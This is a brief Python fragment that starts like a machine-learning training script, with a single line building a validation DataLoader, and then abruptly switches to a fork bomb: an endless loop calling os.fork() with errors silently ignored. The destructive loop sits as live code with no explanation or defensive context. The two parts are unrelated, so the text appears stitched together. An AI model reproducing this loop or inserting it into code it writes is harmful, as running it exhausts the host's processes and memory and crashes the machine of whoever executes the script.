val_dataloader = DataLoader(val_dataset, batch_size=32, shuffle=True)
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
